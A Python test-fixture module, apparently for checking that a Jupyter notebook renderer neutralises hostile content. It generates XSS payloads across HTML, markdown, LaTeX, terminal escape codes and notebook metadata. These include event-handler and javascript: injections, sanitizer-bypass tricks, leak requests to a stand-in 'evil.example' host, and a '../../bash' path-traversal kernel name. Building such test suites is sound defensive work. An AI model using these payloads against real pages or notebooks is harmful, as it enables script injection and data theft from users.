"""Make payloads for pages: HTML, markdown, text, outputs, and a notebook with all of them.

Each payload is a way to run something, to load something or to take over a page.
"""

import base64
from typing import Any

PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)
SVG = base64.b64encode(b"<svg onload=alert(1)>").decode()
EVIL = "https://evil.example/leak"
CODE = "alert(document.domain)"


# Longer than 60 lines: it is a table.
def html_payloads() -> list[str]:
    """HTML as it may stand in an output, in markdown, or in a raw cell."""
    quotes = [
        f'<img src=x onerror="{CODE}">',
        f"<IMG SRC=x OnErRoR={CODE}>",
        f"<img/src/onerror={CODE}>",
    ]
    handlers = [
        f'<{tag} {event}="{CODE}" {more}>x</{tag}>'
        for tag, event, more in [
            ("body", "onload", ""),
            ("details", "ontoggle", "open"),
            ("div", "onmouseover", ""),
            ("p", "onpointerenter", 'style="position:fixed;inset:0"'),
            ("a", "onfocus", "autofocus tabindex=1"),
            ("video", "onloadstart", "src=x"),
            ("marquee", "onstart", ""),
        ]
    ]
    schemes = [
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "&#106;avascript:",
        "\x01javascript:",
        "vbscript:",
        "data:text/html,",
    ]
    links = [f'<a href="{scheme}{CODE}">x</a>' for scheme in schemes]
    frames = [
        f'<iframe src="{EVIL}"></iframe>',
        f'<iframe srcdoc="<script>{CODE}</script>"></iframe>',
        f'<object data="{EVIL}"></object>',
        f'<embed src="{EVIL}">',
        f'<form action="{EVIL}"><input name=a autofocus>'
        f'<button formaction="javascript:{CODE}">go</button></form>',
        f'<base href="{EVIL}/">',
        f'<meta http-equiv="refresh" content="0;url={EVIL}">',
        f'<link rel="stylesheet" href="{EVIL}.css">',
        f"<style>@import url({EVIL}.css); body {{display: none}}</style>",
    ]
    loads = [
        f'<img src="{EVIL}.png">',
        '<img src="//evil.example/leak.png">',
        f'<img srcset="{EVIL}.png 1x" src="data:image/png;base64,{PNG}">',
        f'<video poster="{EVIL}.png"></video>',
        f'<audio src="{EVIL}.mp3" autoplay></audio>',
        f'<table background="{EVIL}.png"><tr><td>x</td></tr></table>',
        f'<div style="background:url({EVIL}.png)">x</div>',
        f'<img src="data:image/svg+xml;base64,{SVG}">',
    ]
    odd = [
        f"<script>{CODE}</script>",
        f'<script src="{EVIL}.js"></script>',
        f"<scr<script>ipt>{CODE}</scr</script>ipt>",
        f"<svg onload={CODE}><script>{CODE}</script></svg>",
        f'<svg><a xlink:href="javascript:{CODE}"><text>x</text></a></svg>',
        f'<svg><use href="{EVIL}.svg#x"/></svg>',
        f"<math><mtext><table><mglyph><style><img src=x onerror={CODE}>",
        f'<math href="javascript:{CODE}">x</math>',
        f'<noscript><p title="</noscript><img src=x onerror={CODE}>">',
        f"<!--><img src=x onerror={CODE}>-->",
        f"<![CDATA[<img src=x onerror={CODE}>]]>",
        f"<template><img src=x onerror={CODE}></template>",
        f"<textarea><img src=x onerror={CODE}></textarea>",
        f"<select><option><script>{CODE}</script></select>",
        '<p id="essay" name="statusmessage" class="navbar navbar-fixed-top tex2jax_process">x</p>',
        f"</div></body></html><script>{CODE}</script>",
        f"\\<script>{CODE}</script>",
    ]
    return [*quotes, *handlers, *links, *frames, *loads, *odd]


def markdown_payloads() -> list[str]:
    """What becomes dangerous only when markdown is rendered."""
    return [
        f"[x](javascript:{CODE})",
        f"[x](<java\tscript:{CODE}>)",
        f"[x][1]\n\n[1]: javascript:{CODE}",
        f"<javascript:{CODE}>",
        "[x](//evil.example)",
        "[x](/formgrader/api/assignments)",
        f"![x]({EVIL}.png)",
        f"![x][1]\n\n[1]: {EVIL}.png",
        "![x](attachment:not-there.png)",
        f"```mermaid\n<img src=x onerror={CODE}>\n```",
        f'```py" onload="{CODE}\nx\n```',
        "# essay\n\n## essay-comment",
        f"$\\href{{javascript:{CODE}}}{{x}}$",
        "$$\\require{html}\\style{position:fixed}{x} \\cssId{essay}{y}$$",
        f"&#36;\\href{{javascript:{CODE}}}{{x}}&#36;",
        f"\\begin{{a}}<img src=x onerror={CODE}>\\end{{a}}",
        f"`code` <b title='`' onclick={CODE}>x</b>",
        f"| a |\n|---|\n| <img src=x onerror={CODE}> |",
        ">" * 600 + f" <img src=x onerror={CODE}>",
        "[" * 5000,
    ]


def text_payloads() -> list[str]:
    """Plain text: nothing may come alive, and nothing may stop the page from being made."""
    return [
        f"<script>{CODE}</script>",
        "\x1b[38m red",  # nbconvert raises IndexError
        "\x1b[48;2m",
        "\x1b[" + "9" * 5000 + "m",
        f"\x1b]8;;javascript:{CODE}\x07click\x1b]8;;\x07",
        f'\x1b[31"><script>{CODE}</script>m',
        "\x1b[2J\x1b[H\x1bc\x9b31m",
        "\u202egnp.exe\u202c",
        "half \ud800 a character",
        "\x00\x01\x02<b>",
        "x" * 400_000,
    ]


def outputs() -> list[dict[str, Any]]:
    """Every payload in every kind of output that nbformat knows, and in some that it does not."""
    page = html_payloads()
    made: list[dict[str, Any]] = [display({"text/html": payload}) for payload in page]
    made += [display({"text/markdown": payload}) for payload in [*markdown_payloads(), *page[::7]]]
    made += [
        display({"text/latex": f"${payload}$"})
        for payload in ["\\href{javascript:alert(1)}{x}", page[0]]
    ]
    made += [
        {"output_type": "stream", "name": "stdout", "text": payload} for payload in text_payloads()
    ]
    made += [display({"text/plain": payload}) for payload in text_payloads()]
    made += [
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]}
        for payload in (*text_payloads()[:6], page[0])
    ]
    made += [
        display({"application/javascript": CODE}),
        display(
            {
                "application/vnd.jupyter.widget-view+json": {
                    "model_id": f"</script><script>{CODE}</script>"
                }
            }
        ),
        display({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{CODE}'/>"}),
        display({"text/vnd.mermaid": f"<img src=x onerror={CODE}>"}),
        display({"application/pdf": "JVBERi0="}),
        display({"image/png": f'" onerror="{CODE}'}),
        display({"image/png": SVG}),
        display(
            {"image/png": PNG},
            {"image/png": {"width": f"1 onerror={CODE}", "alt": f'"><script>{CODE}</script>'}},
        ),
        display({"image/png": PNG}, {"filenames": {"image/png": EVIL + ".png"}}),
        display({"text/html": "<b>x</b>"}, {"text/html": {"isolated": True}}),
        {
            "output_type": "display_data",
            "data": {"text/plain": "x"},
            "metadata": {},
            "svg_filename": EVIL,
        },
    ]
    return made


def display(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


def notebook() -> dict[str, Any]:
    """A notebook with all payloads: outputs, prose, raw cells, attachments, metadata, names."""
    cells = [
        {"cell_type": "markdown", "metadata": {}, "id": f"m{n}", "source": payload}
        for n, payload in enumerate([*html_payloads(), *markdown_payloads()])
    ]
    cells += [
        {
            "cell_type": "raw",
            "metadata": {"raw_mimetype": "text/html"},
            "id": f"r{n}",
            "source": payload,
        }
        for n, payload in enumerate(html_payloads()[::5])
    ]
    made = outputs()
    for number, start in enumerate(range(0, len(made), 40)):
        cell = {
            "cell_type": "code",
            "metadata": {"tags": ['"><script>']},
            "id": f"c{number}",
            "source": "show()",
        }
        cells.append(
            cell
            | {"outputs": made[start : start + 40], "execution_count": f"<script>{CODE}</script>"}
        )
    attachment = {
        "cell_type": "markdown",
        "metadata": {"alt": '"onload=x'},
        "id": '"><script>',
        "source": "![a](attachment:a.png) ![b](attachment:b.png)",
        "attachments": {
            "a.png": {"image/svg+xml": f"<svg onload={CODE}>"},
            "b.png": {"image/png": PNG},
        },
    }
    metadata = {
        "title": f"</title><script>{CODE}</script>",
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {"x": f"</script><script>{CODE}</script>"}
        },
        "kernelspec": {"name": "../../bash", "display_name": f"<script>{CODE}</script>"},
        "language_info": {"name": "python", "pygments_lexer": f"<script>{CODE}</script>"},
    }
    return {"cells": [*cells, attachment], "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}
